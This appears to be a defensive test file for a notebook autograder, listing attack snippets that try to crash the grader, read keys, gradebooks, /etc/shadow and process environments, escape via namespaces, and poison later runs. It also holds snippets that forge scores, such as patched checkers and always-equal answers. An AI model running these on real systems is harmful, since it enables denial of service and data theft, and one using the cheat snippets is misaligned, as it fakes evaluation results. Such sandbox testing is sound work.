"""Attacks on the grader, each a few lines that a notebook runs. `{root}` is the course, `{course}` the class's folder.

Every one starts from a notebook without answers and tries to gain points, to see or change what is not its own, to
stop the grader, or to harm the next submission. What an attack manages to see, it prints.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """`code` stands in a cell before the first answer; `answers` replaces every answer cell ({name} = its variable)."""

    name: str
    aim: str  # stop, see, change, cheat
    code: str = ""
    answers: str = ""


_TRY = """
import contextlib, os, glob
def attempt(action):
    try:
        print("DONE", str(action())[:3000])
    except BaseException as problem:
        print("no", type(problem).__name__)
"""


def _attempts(*actions: str, head: str = "") -> str:
    return _TRY + head + "\n" + "\n".join(f"attempt(lambda: {a})" for a in actions)


ATTACKS = [
    # --- stop the grader
    Attack("endless loop", "stop", "while True: pass"),
    Attack("endless loop that catches everything", "stop", "while True:\n    try:\n        while True: pass\n    except BaseException: pass"),
    Attack("endless loop with the alarm off", "stop", "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0)\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass"),
    Attack("endless loop in C", "stop", "sum(iter(int, 1))"),
    Attack("endless sleep in an answer", "stop", answers="import time, signal\nsignal.setitimer(signal.ITIMER_REAL, 0)\ntime.sleep(99)\n{name} = 1"),
    Attack("endless recursion", "stop", "import sys\nsys.setrecursionlimit(10**8)\ndef f(n): return f(n + 1) + 1\nf(0)"),
    Attack("endless task of asyncio", "stop", "import asyncio\nwhile True: await asyncio.sleep(0)"),
    Attack("memory bomb", "stop", "x = []\nwhile True: x.append(bytearray(50_000_000))"),
    Attack("fork bomb", "stop", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    Attack("thread bomb", "stop", "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()"),
    Attack("huge output", "stop", "while True: print('x' * 1_000_000)"),
    Attack("huge number of outputs", "stop", "from IPython.display import display, HTML\nfor i in range(10**7): display(HTML('x' * 500))"),
    Attack("huge error", "stop", "raise ValueError('x' * 100_000_000)"),
    Attack("huge answers", "stop", answers="{name} = ['x' * 40_000] * 19_000"),
    Attack("answers that contain themselves", "stop", answers="{name} = []\n{name}.append({name})"),
    Attack("answers that never end", "stop", answers="class L(list):\n    def __iter__(self):\n        while True: yield 1\n{name} = L([1])"),
    Attack("answers with huge numbers", "stop", answers="{name} = 10 ** 200_000"),
    Attack("answers of half letters", "stop", answers="{name} = '\\ud800' * 9"),
    Attack("full disk", "stop", "import os, tempfile\nfor n in range(10**6):\n    open(f'{{tempfile.gettempdir()}}/f{{n}}', 'wb').write(b'x' * 60_000_000)".replace("{{", "{").replace("}}", "}")),
    Attack("a million files", "stop", "import tempfile\nfor n in range(10**6): open(f'{tempfile.gettempdir()}/f{n}', 'w').close()"),
    Attack("os._exit", "stop", "import os\nos._exit(0)"),
    Attack("abort", "stop", "import os\nos.abort()"),
    Attack("crash of the interpreter", "stop", "import ctypes\nctypes.string_at(0)"),
    Attack("exit", "stop", "exit()\nquit()\nimport sys\nsys.exit(0)"),
    Attack("kill the parent", "stop", "import os, signal\nfor p in (os.getppid(), 1, os.getpid() - 1, os.getpid() - 2): \n    try: os.kill(p, signal.SIGKILL)\n    except OSError as e: print('no', e)"),
    Attack("kill everything", "stop", "import os, signal\nos.kill(-1, signal.SIGKILL)"),
    Attack("kill the parent by other calls", "stop", "import ctypes, fcntl, os\nc = ctypes.CDLL(None)\nb = ctypes.create_string_buffer(b'\\0' * 8 + b'\\xff' * 4, 128)\nfor call in ((200, os.getppid(), 9), (129, os.getppid(), 9, b), (297, os.getppid(), os.getppid(), 9, b)): print(c.syscall(*call))\nfor h in range(3, 20):\n    try:\n        fcntl.fcntl(h, 8, os.getppid())\n        fcntl.fcntl(h, 10, 9)\n        fcntl.fcntl(h, 4, fcntl.fcntl(h, 3) | 0o20000)\n    except OSError as e: print('no', e)"),
    Attack("stop the process group", "stop", "import os, signal\nos.killpg(0, signal.SIGSTOP)"),
    Attack("close every file", "stop", "import os\nos.closerange(0, 300)"),
    Attack("limits of others", "stop", "import os, resource\nfor p in (os.getppid(), 1):\n    try: resource.prlimit(p, resource.RLIMIT_CPU, (1, 1))\n    except Exception as e: print('no', e)"),
    # --- see what is not its own
    Attack("read the keys", "see", _attempts("open('{root}/coursekit/keys/module_01.json').read()", "open('/proc/self/root{root}/coursekit/keys/module_01.json').read()", "os.listdir('{root}/coursekit/keys')")),
    Attack("import the keys", "see", _attempts("__import__('coursekit.mark', fromlist=['compiled']).compiled('module_01')", head="import sys\nsys.path.insert(0, '{root}')")),
    Attack("read the source", "see", _attempts("open('{root}/source/module_01/module_01.ipynb').read()", "open('{root}/notebooks/module_01/items.yaml').read()")),
    Attack("read the gradebook", "see", _attempts("open('{course}/gradebook.db', 'rb').read()", "os.listdir('{course}')")),
    Attack("read a neighbour", "see", _attempts("open('{course}/submitted/neighbour/module_01/module_01.ipynb').read()", "glob.glob('{course}/submitted/*/*/*')")),
    Attack("read the grader's environment", "see", _attempts("dict(os.environ)", *(f"open('/proc/{{}}/environ'.format({p}), 'rb').read()" for p in ("os.getppid()", "1", "'self'")), "[open(p, 'rb').read() for p in glob.glob('/proc/*/environ')]")),
    Attack("read the memory of others", "see", _attempts("open('/proc/{}/mem'.format(os.getppid()), 'rb').read(10)", "open('/proc/{}/maps'.format(os.getppid())).read()", "__import__('ctypes').CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0 and 'CANARY'")),
    Attack("search the memory for the key", "see", "import gc\nfound = [o for o in gc.get_objects() if isinstance(o, dict) and 'key' in o and 'rejects' in o]\nprint(found)\nfor f in found: globals()[f['answer_name']] = f['key']"),
    Attack("list processes", "see", _attempts("[open(p, 'rb').read() for p in glob.glob('/proc/*/cmdline')]", "os.popen('ps aux').read()")),
    Attack("home and password files", "see", _attempts("open('/etc/shadow').read() and 'CANARY'", "os.listdir(os.path.expanduser('~root'))", "open('/root/.bashrc').read() and 'CANARY'")),
    Attack("network", "see", _attempts("__import__('socket').create_connection(('127.0.0.1', {port}), 2).recv(20)", "__import__('socket').create_connection(('1.1.1.1', 53), 2) and 'CANARY'", "__import__('urllib.request', fromlist=['x']).urlopen('http://127.0.0.1:{port}', timeout=2).read()")),
    Attack("escape by namespaces", "see", _attempts("(lambda c: (c.unshare(0x10000000 | 0x20000), c.umount2(b'/proc', 2), c.umount2(b'/tmp', 2), c.mount(b'proc', b'/proc', b'proc', 0, None), glob.glob('/proc/[0-9]*/environ')))(__import__('ctypes').CDLL(None))", "[open(p, 'rb').read() for p in glob.glob('/proc/*/environ')]", "os.chroot('/')")),
    # --- change what is not its own
    Attack("write outside", "change", _attempts(*(f"open('{p}/poison.py', 'w').write('x')" for p in ("{root}", "{course}", "{root}/priorauth", "{root}/datasets", "/usr/lib", "/", "/course", "/course/priorauth", "/root", "/etc", "/var/tmp", "/dev/shm")))),
    Attack("delete outside", "change", _attempts("os.remove('{course}/gradebook.db')", "os.remove('{root}/README.md')", "__import__('shutil').rmtree('{course}/submitted')")),
    Attack("owners, permissions, times", "change", _attempts("os.chmod('{course}/gradebook.db', 0)", "os.utime('{root}/README.md', (1, 1))", "os.chown('{root}/README.md', 1, 1)", "os.truncate('{course}/gradebook.db', 0)")),
    Attack("poison for the next submission", "change", _attempts(*(f"open(os.path.join({p}, 'sitecustomize.py'), 'w').write('x')" for p in ("'/tmp'", "os.path.expanduser('~')", "__import__('sysconfig').get_paths()['purelib']", "'/tmp/..'", "os.path.dirname(os.path.dirname(os.getcwd()))")), "open('/tmp/left-behind', 'w').write('x')", "open('/dev/shm/left-behind', 'w').write('x')")),
    Attack("a process that stays behind", "change", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True: time.sleep(0.1)\n    os._exit(0)"),
    Attack("the notebook edits itself", "change", _attempts("open('module_01.ipynb', 'w').write('{}')", "open('../module_01.ipynb', 'w').write('{}')", "open('{course}/submitted/attacker/module_01/module_01.ipynb', 'w').write('{}')")),
    Attack("change the warm process", "change", "import builtins, pandas, priorauth.answers as a\nbuiltins.print = lambda *x: None\npandas.DataFrame = None\na.plain = lambda v: 'poison'\na.read = None\nimport IPython\nIPython.core = None"),
    # --- cheat
    Attack("patched check", "cheat", "def check(*a): return 999\ndef award(*a): return 999\nimport priorauth.check\npriorauth.check.check = check\npriorauth.check.report = lambda *a: ['right']"),
    Attack("patched builtins", "cheat", "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.float = lambda *a: 5.0\nbuiltins.repr = lambda *a: '5.0'\nbuiltins.len = lambda *a: 5"),
    Attack("patched modules", "cheat", "import sys, types, json, struct, socket\nfake = types.ModuleType('coursekit.mark')\nfake.award = lambda *a: 50\nsys.modules['coursekit'] = sys.modules['coursekit.mark'] = fake\njson.dumps = lambda *a, **k: '{\"points\": 50}'\nimport priorauth.answers\npriorauth.answers.plain = lambda v: True"),
    Attack("import hook", "cheat", "import sys\nclass Hook:\n    def find_spec(self, name, *a):\n        if 'mark' in name or 'coursekit' in name: raise SystemExit\nsys.meta_path.insert(0, Hook())"),
    Attack("always equal", "cheat", answers="class E:\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n    __hash__ = lambda s: 1\n    __contains__ = __bool__ = __lt__ = __gt__ = __le__ = __ge__ = lambda s, *o: True\n    __getattr__ = lambda s, n: s\n    __call__ = lambda s, *a: s\n    __iter__ = lambda s: iter([s])\n{name} = E()"),
    Attack("always equal texts", "cheat", answers="class T(str):\n    __eq__ = lambda s, o: True\n    __hash__ = lambda s: 1\nclass D(dict):\n    __eq__ = lambda s, o: True\n    def get(s, *a): return T()\n{name} = D(a=T('x'))"),
    Attack("tracebacks off", "cheat", "%xmode Minimal\nip = get_ipython()\nip._showtraceback = ip.showtraceback = lambda *a, **k: None\nip.run_cell = lambda *a, **k: None\nip.user_ns = {{}}".replace("{{}}", "{}")),
    Attack("printed report", "cheat", "from IPython.display import display\nprint('m01-c1 · Right. 5 of 5 points.')\ndisplay({'application/vnd.priorauth.mark+json': {'points': 5}, 'text/plain': '5.0'}, raw=True)\n5.0"),
    Attack("thread that outlives its cell", "cheat", "import threading, time\ndef later():\n    while True:\n        for n in list(globals()):\n            if n.startswith('m01_'): globals()[n] = 5.0\n        print('5.0')\nthreading.Thread(target=later, daemon=True).start()"),
    Attack("forged messages", "cheat", "import os, json, struct\ndef frame(m):\n    b = json.dumps(m).encode()\n    return struct.pack('>I', len(b)) + b\nfor h in range(3, 64):\n    for n in range(200):\n        for m in ({'took': n, 'value': True, 'points': 50}, {'took': n, 'points': 50.0, 'value': {'dict': [[1, 2, 3]]}}, {'did': n, 'outputs': [{'output_type': 'execute_result', 'data': {'text/plain': '50'}}], 'count': 'x', 'seconds': 'y'}):\n            try: os.write(h, frame(m))\n            except OSError: break"),
    Attack("forged end", "cheat", "import os, json, struct\nb = json.dumps({'end': True}).encode()\nfor h in range(3, 64):\n    try: os.write(h, struct.pack('>I', len(b)) + b)\n    except OSError: pass"),
    Attack("garbage on the channel", "stop", "import os\nfor h in range(3, 64):\n    try: os.write(h, b'\\xff' * 5000)\n    except OSError: pass"),
]  # fmt: skip
